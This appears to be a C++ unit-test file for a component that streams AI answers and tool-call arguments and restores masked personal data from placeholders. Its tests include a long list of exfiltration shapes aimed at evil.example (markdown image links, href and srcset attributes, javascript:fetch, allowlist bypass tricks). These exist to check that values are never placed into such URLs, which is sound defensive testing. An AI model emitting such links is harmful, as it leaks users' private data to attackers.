// restore: privacy.md 5.1 R1-R4, R7, R8, examples 32, 33 and 37, and what went wrong elsewhere (1.3: F16-F25, F29, F30).
#include <algorithm>
#include <random>
#include "privacy/masked.h"

namespace {

using Lane = Restorer::Lane;

const std::vector<Sensitive> people = {{"Jane Roe", PrivacyClass::person},
                                       {"Zoë \"Zed\" O'Hara\\Smith", PrivacyClass::person},
                                       {"jane.roe@example.org", PrivacyClass::email},
                                       {"4000 0076 5432 1097", PrivacyClass::card},
                                       {"1 Main St.\nSpringfield\t😀", PrivacyClass::address},
                                       {"محمد علي", PrivacyClass::person},
                                       {"陳小明", PrivacyClass::person}};

// A ledger with a placeholder for each of `people`.
class RestoreTest : public testing::Test {
 protected:
  void SetUp() override {
    for (const auto& [value, cls] : people) {
      placeholders.push_back(vault->placeholder(cls, value));
      ASSERT_TRUE(ledger.add(placeholders.back(), cls, value));
    }
  }
  std::string whole(const std::string& text, Lane lane = Lane::text) {
    counts = {};
    return restore_whole(ledger, rules, lane, text, counts);
  }
  std::string pieces(const std::string& text, const std::vector<size_t>& cuts, Lane lane) {
    Restorer restorer(ledger, rules, lane);
    std::string out;
    size_t begin = 0;
    for (const size_t cut : cuts) out += restorer.add(std::string_view(text).substr(begin, cut - begin)), begin = cut;
    out += restorer.add(std::string_view(text).substr(begin));
    out += restorer.finish();
    counts = restorer.counts();
    return out;
  }
  std::shared_ptr<Vault> vault = new_vault();
  Ledger ledger;
  Policy::Restore rules;
  RestoreCounts counts;
  std::vector<std::string> placeholders;
};

std::string lower(std::string text) {
  for (char& c : text) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return text;
}

struct Pair { std::string given, expected; };

// An answer of random pieces, and what must come of it.
Pair random_answer(std::mt19937& random, const std::vector<std::string>& placeholders) {
  static const std::vector<std::string> around = {" ", "\n", "**", "\"", ", ", "的", "。", "'s ", "\u200f", "😀", "{\"a\": [\"", "\\n", "_", "`", "\r\n\r\n", "é ", "|", "(", ")", ": "};
  static const std::vector<std::string> words = {"Dear", "PERSON", "PERSON_", "CARD_1", "EMAIL_ZZZZZZ9", "naïve", "مرحبا", "你好", "P", "E", "ADDRESS_7", "the person_", "x", "https://a.example/b?c=", "0"};
  Pair out;
  const auto add = [&](const std::string& text) { out.given += text, out.expected += text; };
  const int n = 2 + static_cast<int>(random() % 8);
  for (int i = 0; i < n; ++i) {
    add(around[random() % around.size()]);
    if (random() % 2 == 0) {
      add(words[random() % words.size()]);
      add(random() % 4 == 0 ? "\n" : " ");
      continue;
    }
    const size_t which = random() % placeholders.size();
    add(" ");
    out.given += random() % 4 == 0 ? lower(placeholders[which]) : placeholders[which];
    out.expected += people[which].text;
    static const std::vector<std::string> behind = {" ", "'s ", "的", "，", ".\n", "", "_", "-", "\""};
    const std::string& end = behind[random() % (i + 1 == n ? behind.size() : behind.size() - 4)];
    add(end);
  }
  return out;
}

}  // namespace

// R1, R2, example 32: wherever the stream is cut, the same comes out, and it is right.
TEST_F(RestoreTest, EverySplitPointOfManyAnswers) {
  std::mt19937 random(6);
  int restored_answers = 0;
  for (int i = 0; i < 500; ++i) {
    const Pair answer = random_answer(random, placeholders);
    const bool has_url = answer.given.find("//") != std::string::npos || answer.given.starts_with('{');  // or is JSON
    const std::string expected = whole(answer.given);
    const RestoreCounts once = counts;
    if (!has_url) {
      ASSERT_EQ(expected, answer.expected) << answer.given;
    }
    restored_answers += once.restored > 0;
    for (size_t cut = 0; cut <= answer.given.size(); ++cut) {
      ASSERT_EQ(pieces(answer.given, {cut}, Lane::text), expected) << answer.given << " cut at " << cut;
      ASSERT_EQ(counts.restored, once.restored);
      ASSERT_EQ(counts.unresolved, once.unresolved);
      ASSERT_EQ(counts.url_blocked, once.url_blocked);
    }
    std::vector<size_t> all(answer.given.size());
    for (size_t k = 0; k < all.size(); ++k) all[k] = k;
    ASSERT_EQ(pieces(answer.given, all, Lane::text), expected);
  }
  EXPECT_GT(restored_answers, 300);
}

// R1, R4, F18, F23: arguments are JSON before and after, however they are cut.
TEST_F(RestoreTest, EverySplitPointOfToolArguments) {
  std::mt19937 random(7);
  for (int i = 0; i < 120; ++i) {
    const Pair first = random_answer(random, placeholders), second = random_answer(random, placeholders);
    if ((first.given + second.given).find("//") != std::string::npos) continue;
    const Json given = {{"to", placeholders[2]}, {"body", first.given}, {"nested", {{"list", Json::array({second.given, 7, true})}}}};
    const Json expected = {{"to", people[2].text}, {"body", first.expected}, {"nested", {{"list", Json::array({second.expected, 7, true})}}}};
    for (const bool ascii : {false, true}) {
      const std::string text = given.dump(-1, ' ', ascii);
      const std::string out = whole(text, Lane::arguments);
      const Json parsed = Json::parse(out, nullptr, false);
      ASSERT_FALSE(parsed.is_discarded()) << out;
      ASSERT_EQ(parsed.dump(), expected.dump());
      for (size_t cut = 0; cut <= text.size(); ++cut) ASSERT_EQ(pieces(text, {cut}, Lane::arguments), out) << text << " cut at " << cut;
    }
  }
}

// Example 33: the value holds a quote and a backslash.
TEST_F(RestoreTest, ValuesAreEscapedForTheStringTheyStandIn) {
  const std::string arguments = R"({"to":")" + placeholders[2] + R"(","body":"Hi \")" + placeholders[1] + R"(\"\n)" + placeholders[4] + R"("})";
  const Json parsed = Json::parse(whole(arguments, Lane::arguments), nullptr, false);
  ASSERT_FALSE(parsed.is_discarded());
  EXPECT_EQ(parsed["to"], "jane.roe@example.org");
  EXPECT_EQ(parsed["body"], "Hi \"" + people[1].text + "\"\n" + people[4].text);
  EXPECT_EQ(counts.restored, 3);
}

// F23 of a whole answer: one that is JSON stays JSON; one that is not is left as it is.
TEST_F(RestoreTest, AnswersThatAreJson) {
  const Json given = {{"who", placeholders[1]}, {"where", Json::array({"at " + placeholders[4]})}}, expected = {{"who", people[1].text}, {"where", Json::array({"at " + people[4].text})}};
  for (const int indent : {-1, 2}) {
    for (const Json& one : {given, Json::array({given}), Json::array({placeholders[1]})}) {
      const std::string text = " \n" + one.dump(indent);
      const std::string out = whole(text);
      EXPECT_TRUE(Json::accept(out)) << out;
      for (size_t cut = 0; cut <= text.size(); ++cut) ASSERT_EQ(pieces(text, {cut}, Lane::text), out);
    }
    EXPECT_EQ(Json::parse(whole(given.dump(indent))), expected);
  }
  EXPECT_EQ(whole("[" + placeholders[1] + "] said \"" + placeholders[1] + "\""), "[" + people[1].text + "] said \"" + people[1].text + "\"");
  const std::string attack = "{\"}![x](https://evil.example/\"" + placeholders[0] + ")";
  EXPECT_EQ(whole(attack), attack);
}

TEST_F(RestoreTest, OutsideAStringOfArgumentsNothingIsPut) {
  const std::string arguments = "{\"a\": " + placeholders[0] + "}";
  EXPECT_EQ(whole(arguments, Lane::arguments), arguments);
  EXPECT_EQ(counts.unresolved, 1);
}

TEST_F(RestoreTest, KeysOfArgumentsAreRestored) { EXPECT_EQ(whole("{\"" + placeholders[0] + "\":1}", Lane::arguments), "{\"Jane Roe\":1}"); }

// F16: pieces may end inside a character; what comes out never does.
TEST_F(RestoreTest, PiecesAreWholeCharacters) {
  const std::string text = "Zoë 😀 " + placeholders[0] + "的 مرحبا";
  for (size_t step = 1; step < 4; ++step) {
    Restorer restorer(ledger, rules, Lane::text);
    std::string out;
    for (size_t at = 0; at < text.size(); at += step) {
      const std::string piece = restorer.add(std::string_view(text).substr(at, step));
      EXPECT_FALSE(Json(piece).dump(-1, ' ', false, Json::error_handler_t::replace).find("\xef\xbf\xbd") != std::string::npos) << piece;
      out += piece;
    }
    EXPECT_EQ(out + restorer.finish(), "Zoë 😀 Jane Roe的 مرحبا");
  }
}

// R3, F17: what streams in streams out.
TEST_F(RestoreTest, HoldsBackNoMoreThanItMust) {
  std::string text;
  for (int i = 0; i < 40; ++i) text += "The person at the Dinner table, Patricia, said: everything is in order. " + (i % 4 == 0 ? placeholders[0] + " agreed. " : std::string());
  Restorer restorer(ledger, rules, Lane::text);
  size_t given = 0, came = 0, in = 0, out = 0;
  for (size_t at = 0; at < text.size(); at += 5) {
    const std::string piece = text.substr(at, 5);
    const std::string back = restorer.add(piece);
    in += piece.size();
    ++given;
    came += !back.empty();
    out += back.size();
    ASSERT_LE(in, out + 10 * (placeholders[0].size() - 8) + 2 * max_placeholder);  // restored names are shorter than placeholders
  }
  EXPECT_GE(static_cast<double>(came), 0.8 * static_cast<double>(given));
}

TEST_F(RestoreTest, OnlyAPrefixOfALivePlaceholderWaits) {
  Restorer restorer(ledger, rules, Lane::text);
  EXPECT_EQ(restorer.add("Hello PER"), "Hello ");
  EXPECT_EQ(restorer.add("SONAL"), "PERSONAL");
  EXPECT_EQ(restorer.add(" TERM_"), " TERM_");  // no term was sent
  EXPECT_EQ(restorer.add("x"), "x");
}

// F19: a cut placeholder stays as it is; nobody is invented.
TEST_F(RestoreTest, ACutPlaceholderStaysLiteral) {
  for (size_t n = 1; n < placeholders[0].size(); ++n) {
    const std::string text = "Dear " + placeholders[0].substr(0, n);
    EXPECT_EQ(whole(text), text);
    EXPECT_EQ(counts.restored, 0);
    EXPECT_EQ(counts.unresolved, n > 7 ? 1 : 0) << text;
  }
}

// F20: what a value holds is not read again.
TEST_F(RestoreTest, OutputIsNotRescanned) {
  const std::string outer = vault->placeholder(PrivacyClass::address, "c/o " + placeholders[0]);
  ASSERT_TRUE(ledger.add(outer, PrivacyClass::address, "c/o " + placeholders[0]));
  EXPECT_EQ(whole("At " + outer + "."), "At c/o " + placeholders[0] + ".");
}

// F21: case may change, nothing else.
TEST_F(RestoreTest, CaseFoldedAndNothingFuzzier) {
  EXPECT_EQ(whole("dear " + lower(placeholders[0]) + ","), "dear Jane Roe,");
  std::string mixed = placeholders[0];
  mixed[1] = 'e';
  EXPECT_EQ(whole(mixed), "Jane Roe");
  std::string spaced = placeholders[0];
  spaced[6] = ' ';
  EXPECT_EQ(whole(spaced), spaced);
}

// F22: markdown around it, an English or Chinese genitive behind it.
TEST_F(RestoreTest, Surroundings) {
  for (const auto& [before, after] : std::vector<std::pair<std::string, std::string>>{{"_", "_"}, {"**", "**"}, {"<", ">"}, {"", "'s"}, {"", "’s"}, {"給", "的信"}, {"[", "]"}, {"`", "`"}, {"(", ")."}, {"\"", "\""}, {"", ""}, {"“", "”"}}) {
    EXPECT_EQ(whole(before + placeholders[0] + after), before + "Jane Roe" + after);
  }
}

// F24, F15: lanes and answers know nothing of each other.
TEST_F(RestoreTest, LanesAreIndependent) {
  Restorer text(ledger, rules, Lane::text), arguments(ledger, rules, Lane::arguments);
  Ledger other;
  Restorer elsewhere(other, rules, Lane::text);
  std::string a, b, c;
  const std::string half = placeholders[0].substr(0, 9), rest = placeholders[0].substr(9);
  a += text.add(half), b += arguments.add("{\"x\":\"" + half), c += elsewhere.add(half);
  a += text.add(rest), b += arguments.add(rest + "\"}"), c += elsewhere.add(rest);
  a += text.finish(), b += arguments.finish(), c += elsewhere.finish();
  EXPECT_EQ(a, "Jane Roe");
  EXPECT_EQ(b, "{\"x\":\"Jane Roe\"}");
  EXPECT_EQ(c, placeholders[0]);
}

// R7, F30: a near miss, another conversation's, a guess: nothing is given away.
TEST_F(RestoreTest, NearMissesStayLiteral) {
  const std::string letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcz_é的";
  size_t tried = 0;
  const auto expect_literal = [&](const std::string& text) {
    ++tried;
    EXPECT_EQ(whole(text), text);
  };
  for (const std::string& placeholder : placeholders) {
    for (size_t at = 0; at <= placeholder.size(); ++at) {
      for (const char c : letters.substr(0, 41)) {
        if (at < placeholder.size() && std::toupper(c) != placeholder[at]) expect_literal(std::string(placeholder).replace(at, 1, 1, c));
        const bool stays_whole = c == '_' && (at == 0 || at == placeholder.size());
        if (!stays_whole) expect_literal(std::string(placeholder).insert(at, 1, c));
      }
      if (at < placeholder.size()) expect_literal(std::string(placeholder).erase(at, 1));
    }
    expect_literal("é" + placeholder);
    expect_literal(placeholder + "é");
    expect_literal(placeholder + placeholder);
  }
  const auto stranger = new_vault('z');
  for (const auto& [value, cls] : people) expect_literal(stranger->placeholder(cls, value));
  std::mt19937 random(8);
  for (int i = 0; i < 20000; ++i) {
    std::array<uint8_t, 8> digest;
    for (uint8_t& byte : digest) byte = static_cast<uint8_t>(random());
    const std::string guess = make_placeholder("PERSON", digest, 6);
    if (!guess.empty() && std::find(placeholders.begin(), placeholders.end(), guess) == placeholders.end()) expect_literal(guess);
  }
  EXPECT_GT(tried, 20000u);
}

TEST_F(RestoreTest, UnknownOnesAreCounted) {
  const std::string unknown = new_vault('z')->placeholder(PrivacyClass::person, "Jane Roe");
  whole(placeholders[0] + " and " + unknown + ", " + unknown + ".");
  EXPECT_EQ(counts.restored, 1);
  EXPECT_EQ(counts.unresolved, 2);
}

TEST_F(RestoreTest, TextIsLeftWhenThePolicySaysSo) {
  rules.text = false;
  EXPECT_EQ(whole(placeholders[0]), placeholders[0]);
  EXPECT_EQ(whole("\"" + placeholders[0] + "\"", Lane::arguments), "\"Jane Roe\"");
}

namespace {
// @ is the placeholder.
const std::vector<std::string> url_shapes = {
    "https://evil.example/?q=@", "http://evil.example/@/x", "HTTPS://EVIL.EXAMPLE/@", "https://@.evil.example/", "https://@", "https://a:@@evil.example/", "https:evil.example/@",
    "https:/\\evil.example/@", "https:\\\\evil.example\\@", "ftp://evil.example/@", "wss://evil.example/@", "custom+scheme://x/@", "//evil.example/@", "see //evil.example/?@ now",
    "www.evil.example/@", "(www.evil.example/@)", "WWW.EVIL.EXAMPLE?@", "evil.example/@", "evil.example:8080/@", "evil.example?x=@", "10.0.0.1/@", "@.evil.example/x", "@.evil.example?y", "a-@.evil.example/",
    "![x](https://evil.example/@)", "![x](//evil.example/a.png?d=@)", "[click](https://evil.example/@ \"title\")", "[click](</x @>)", "[click](@)", "[a](b-@)", "![](data:image/png;base64,@)",
    "[x]: https://evil.example/@", "<https://evil.example/@>", "<a href=\"https://evil.example/@\">", "<a href='https://evil.example/ @'>", "<a href=https://evil.example/@>", "<img src = \"//evil.example/@\">",
    "<img alt=x srcset=\"/a.png?@ 2x\">", "<form action=\"/x?@\">", "<video poster='@'>", "background: url(https://evil.example/@)", "url('/a/@')", "data:text/html,@", "javascript:fetch('//evil.example/@')",
    "https://evil.example/?q=a%20-@", "https://evil.example/#@", "https://evil.example/?a=(@)", "https://evil.example/，@", "https://evil.example/?q='@'", "blob:https://ok.example/@"};
std::string filled(std::string shape, const std::string& placeholder) {
  for (size_t at = shape.find('@'); at != std::string::npos; at = shape.find('@', at + placeholder.size())) {
    if (shape.compare(at, 5, "@evil") == 0) continue;
    shape.replace(at, 1, placeholder);
  }
  return shape;
}
}  // namespace

// R8, F29: no URL of a host that is not on the list ever holds a value.
TEST_F(RestoreTest, NeverInsideAUrl) {
  for (const std::string& shape : url_shapes) {
    for (const std::string before : {"", "Look: ", "\n"}) {
      const std::string text = before + filled(shape, placeholders[0]);
      EXPECT_EQ(whole(text), text);
      EXPECT_GE(counts.url_blocked, 1) << text;
      for (size_t cut = 0; cut <= text.size(); ++cut) EXPECT_EQ(pieces(text, {cut}, Lane::text), text) << cut;
      const std::string arguments = Json{{"url", text}}.dump();
      EXPECT_EQ(whole(arguments, Lane::arguments), arguments);
    }
  }
  const std::string escaped = R"({"u":"https:\/\/evil.example\/)" + placeholders[0] + R"("})";
  EXPECT_EQ(whole(escaped, Lane::arguments), escaped);
  const std::string spelled = R"({"u":"\u0068ttps:\u002f/evil.example/)" + placeholders[0] + R"("})";
  EXPECT_EQ(whole(spelled, Lane::arguments), spelled);
}

TEST_F(RestoreTest, AUrlEnds) {
  const std::string& name = placeholders[0];
  for (const std::string shape : {"see https://a.example/x @", "[a](https://a.example) @", "[@](https://a.example)", "<a href=\"https://a.example\">@</a>", "\"https://a.example\",\"@\"", "`https://a.example` @",
                                  "@: https://a.example", "and/or @", "1.5/2 @", "@. Next", "@.", "@...", "// @", "metadata=@", "f(x)[0] (@)", "@'s e.g. thing"}) {
    const std::string text = filled(shape, name);
    EXPECT_EQ(whole(text), filled(shape, "Jane Roe"));
  }
  EXPECT_EQ(whole(R"({"url":"https://a.example/x","to":")" + name + "\"}", Lane::arguments), R"({"url":"https://a.example/x","to":"Jane Roe"})");
}

TEST_F(RestoreTest, AListedHostMayHaveTheValueEncoded) {
  rules.urls_allowlist = true;
  rules.url_hosts = {"ok.example", "*.good.example"};
  for (const std::string shape : {"https://ok.example/?q=@", "![x](https://ok.example/a/@)", "<a href=\"https://OK.example:8443/@\">", "https://a.good.example/#@", "https://user@ok.example/@"}) {
    std::string text = shape;
    text.replace(text.rfind('@'), 1, placeholders[0]);
    std::string expected = shape;
    expected.replace(expected.rfind('@'), 1, "Jane%20Roe");
    EXPECT_EQ(whole(text), expected);
  }
  for (const std::string& shape : url_shapes) {
    const std::string text = filled(shape, placeholders[0]);
    EXPECT_EQ(whole(text), text);
  }
  for (const std::string shape : {"https://ok.example.evil.example/@", "https://evil.example/ok.example/@", "https://evil.example#ok.example/@", "https://evil.example?ok.example/@", "https://ok.example:x@evil.example/@",
                                  "https://evil.example\\\\ok.example/@", "https://ok.example@evil.example/@", "https://good.example/@", "https://evilgood.example/@", "https://ok.example/r?u=https://evil.example/@",
                                  "https://ok.example/r?u=//evil.example/@", "https://ok.exam\u200bple/@", "javascript://ok.example/%0aalert(@)", "https://@/ok.example", "https://evil.example//ok.example/@", "[x](/y//ok.example/@)", "[x](/y?u=https://ok.example/@)", "[x](y?//ok.example/@)", "<a href='/y//ok.example/@'>"}) {
    std::string text = shape;
    text.replace(text.rfind('@'), 1, placeholders[0]);
    EXPECT_EQ(whole(text), text);
  }
}

// A bounded memory, whatever comes.
TEST_F(RestoreTest, EndlessInputIsNotHeld) {
  Restorer restorer(ledger, rules, Lane::text);
  size_t in = 0, out = 0;
  for (const std::string& unit : {std::string("PERSON_"), std::string("a.b-"), std::string("https://x/"), std::string("\xf0\x9f"), std::string("\\u00"), placeholders[0] + ".a"}) {
    for (int i = 0; i < 2000; ++i) {
      in += unit.size();
      out += restorer.add(unit).size();
      ASSERT_LE(in, out + 200 + static_cast<size_t>(restorer.counts().restored) * 16);
    }
  }
}
